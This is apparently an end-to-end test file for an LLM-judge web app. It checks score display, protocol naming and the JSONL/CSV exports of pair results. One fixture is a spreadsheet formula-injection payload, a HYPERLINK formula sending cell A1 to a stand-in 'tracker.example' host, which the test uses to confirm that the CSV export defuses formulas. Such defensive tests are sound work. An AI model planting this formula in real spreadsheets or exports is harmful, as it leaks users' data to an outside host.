// E2E: scores on their scale, protocol names instead of template ids, single answers without orders, and exports with the pair's result.
import { readFile } from 'node:fs/promises';
import { afterEach, expect, inject, test } from 'vitest';
import { openApp, type E2EPage } from './support/browser';
import { chooseModel, fillPair, loadTestModel } from './support/judge-page';

const baseURL = inject('baseURL');
let app: E2EPage | undefined;

afterEach(async () => {
  await app?.close();
  app = undefined;
});

test.each([
  ['meta-rewarding-score', 'Additive 5-point score', 'Score 4/5'],
  ['j1-single', 'J1 score', 'Score 8/10'],
])(
  'a single-answer run (%s) shows its score on its scale, its protocol by name, and no orders',
  async (templateId, name, headline) => {
    app = await openApp(baseURL);
    const { page } = app;
    await loadTestModel(page);
    await fillPair(page, {
      prompt: 'Explain gravity in one line.',
      a: 'Mass attracts mass.',
      b: 'unused',
      protocol: templateId,
    });
    await page.getByTestId('judge').click();
    await page.getByTestId('verdict-card').waitFor({ timeout: 30_000 });
    expect(await page.getByTestId('verdict-headline').textContent()).toContain(headline);
    const card = (await page.getByTestId('verdict-card').textContent()) ?? '';
    expect(card).not.toMatch(/A first|B first/);
    expect(await page.getByTestId('stream-AB').locator('h3').textContent()).not.toMatch(
      /shown first|swapped/,
    );

    await page.goto(new URL('#/history', baseURL).href);
    const row = page.getByTestId('history-row').first();
    await row.waitFor();
    expect(await row.getByTestId('row-protocol').textContent()).toBe(`${name} v1`);
    expect(await row.textContent()).not.toContain(templateId);
    await row.locator('a').click();
    const detail = page.getByTestId('history-detail');
    await detail.waitFor();
    expect(await page.getByTestId('detail-protocol').textContent()).toMatch(
      new RegExp(`^\\s*${name}, version 1`),
    );
    expect(await detail.textContent()).not.toMatch(/both orders|one order/);
    expect(await page.getByTestId('detail-answer-b').count()).toBe(0);
    expect(await page.getByTestId('verdict-headline').textContent()).toContain(headline);
  },
);

test('exports carry the pair result and the human label; the CSV guards formulas, the JSONL stays exact', async () => {
  app = await openApp(baseURL, { path: '/#/models' });
  const { page } = app;
  await chooseModel(page, 'arbiter-test-judge');
  await loadTestModel(page);
  // A bundled example (human label B); the test judge prefers the first position, so it flips.
  await page.goto(new URL('#/judge', baseURL).href);
  await page.getByTestId('example').selectOption('llmbar-adversarial-neighbor-035');
  await page.getByTestId('judge').click();
  await page.getByTestId('verdict-card').waitFor({ timeout: 30_000 });
  // A consistent winner whose answer is a spreadsheet formula.
  const formula = '=HYPERLINK("https://tracker.example/?leak="&A1,"✔ click me")';
  await fillPair(page, { prompt: 'Which cell?', a: formula, b: '✘ plain' });
  await page.getByTestId('judge').click();
  await page.getByTestId('verdict-card').waitFor({ timeout: 30_000 });

  await page.goto(new URL('#/history', baseURL).href);
  await page.getByTestId('history-row').nth(1).waitFor();
  expect(await page.getByTestId('export-note').textContent()).toMatch(/formula/);

  const [jsonlDl] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId('export-jsonl').click(),
  ]);
  const lines = (await readFile(await jsonlDl.path(), 'utf8'))
    .trim()
    .split('\n')
    .slice(1)
    .map(
      (l) =>
        JSON.parse(l) as {
          item: { prompt: string; responseA: string };
          pair: Record<string, unknown>;
          usage: Record<string, number | null>;
        },
    );
  expect(lines).toHaveLength(4);
  const example = lines.filter((l) => l.item.prompt === 'Divide 45 by 9');
  const mine = lines.filter((l) => l.item.prompt === 'Which cell?');
  for (const l of example) {
    expect(l.pair).toEqual({
      result: 'flipped',
      consistency: 'flipped',
      humanLabel: 'B',
      agreesWithHuman: false,
    });
  }
  for (const l of mine) {
    expect(l.pair).toMatchObject({ result: 'A', consistency: 'consistent', humanLabel: null });
    expect(l.item.responseA).toBe(formula);
  }
  for (const l of lines) {
    expect(Number.isInteger(l.usage.totalMs)).toBe(true);
    expect(Number.isInteger(l.usage.timeToFirstTokenMs ?? 0)).toBe(true);
  }

  const [csvDl] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId('export-csv').click(),
  ]);
  const csv = (await readFile(await csvDl.path(), 'utf8')).replace(/^\uFEFF/, '');
  const header = csv.slice(0, csv.indexOf('\r\n')).split(',');
  for (const col of ['pairResult', 'pairConsistency', 'humanLabel', 'agreesWithHuman']) {
    expect(header).toContain(col);
  }
  expect(csv).toContain(`"'=HYPERLINK(""https://tracker.example/?leak=""&A1,""✔ click me"")"`);
  expect(csv).not.toMatch(/(^|,|\r\n)"?=HYPERLINK/);
  expect(csv).toMatch(/,flipped,flipped,B,false,/);
  expect(csv).not.toMatch(/\d\.\d{5,}/);
});
